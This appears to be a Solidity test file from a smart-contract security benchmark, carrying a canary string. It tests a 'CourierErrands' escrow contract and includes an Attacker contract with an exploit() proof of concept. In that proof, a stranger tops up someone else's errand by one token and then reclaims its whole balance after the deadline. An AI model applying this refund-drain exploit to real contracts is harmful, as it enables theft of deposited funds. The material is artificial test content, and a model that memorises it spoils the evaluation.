// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

// assay-canary-ac666353-08e0-421d-a634-c85be3810288

import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./CourierErrands.sol";

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20 {
    constructor() ERC20("Token", "TOK") {
        _mint(msg.sender, 1_000_000e18);
    }
}

contract Attacker {
    function add(CourierErrands errands, uint256 id) external {
        errands.token().approve(address(errands), 1);
        errands.topUp(id, 1);
    }

    function collect(CourierErrands errands, uint256 id) external {
        errands.giveBack(id);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant COURIER = address(0xC04);
    address private constant ANNA = address(0xA22A);
    uint256 private constant START = 1_778_000_000;

    Token public token;
    CourierErrands public errands;
    Attacker public stranger;

    function setUp() public {
        vm.warp(START);
        token = new Token();
        errands = new CourierErrands(token, address(this));
        errands.grantRole(errands.COURIER_ROLE(), COURIER);
        token.transfer(ANNA, 6_000e18);
        vm.startPrank(ANNA);
        token.approve(address(errands), type(uint256).max);
        errands.open("a piano to the island", 5_000e18, START + 2 days);
        vm.stopPrank();
        stranger = new Attacker();
        token.transfer(address(stranger), 1);
    }

    function test_Regular() public {
        vm.startPrank(ANNA);
        errands.topUp(0, 500e18);
        require(errands.open("eggs", 10e18, START + 1 hours) == 1 && errands.count() == 2, "another");
        vm.stopPrank();
        vm.prank(COURIER);
        errands.finish(0, 5_100e18);
        require(token.balanceOf(COURIER) == 5_100e18 && token.balanceOf(ANNA) == 890e18, "done");
        vm.warp(START + 1 hours + 1);
        errands.giveBack(1);
        require(token.balanceOf(ANNA) == 900e18 && token.balanceOf(address(errands)) == 0, "back");
        errands.revokeRole(errands.COURIER_ROLE(), COURIER);
        errands.renounceRole(errands.DEFAULT_ADMIN_ROLE(), address(this));
    }

    function test_RefusesErrands() public {
        vm.startPrank(ANNA);
        vm.expectRevert("CourierErrands: too soon");
        errands.open("eggs", 1, START + 1 hours - 1);
        vm.expectRevert("CourierErrands: nothing");
        errands.topUp(0, 0);
        vm.expectRevert("CourierErrands: not over");
        errands.giveBack(0);
        vm.warp(START + 2 days);
        vm.expectRevert("CourierErrands: not over");
        errands.giveBack(0);
        vm.warp(START + 2 days + 1);
        vm.expectRevert("CourierErrands: over");
        errands.topUp(0, 1);
        vm.stopPrank();
    }

    function test_RefusesCouriers() public {
        bytes32 role = errands.COURIER_ROLE();
        vm.expectRevert(
            abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, address(this), role)
        );
        errands.finish(0, 0);
        vm.startPrank(COURIER);
        vm.expectRevert("CourierErrands: too much");
        errands.finish(0, 5_000e18 + 1);
        vm.warp(START + 2 days + 1);
        vm.expectRevert("CourierErrands: over");
        errands.finish(0, 5_000e18);
        vm.stopPrank();
    }

    function exploit() public {
        stranger.add(errands, 0);
        vm.warp(START + 2 days + 1);
        stranger.collect(errands, 0);
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(stranger)) > 5_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(errands);
    }

    function attacker() public view returns (address) {
        return address(stranger);
    }
}
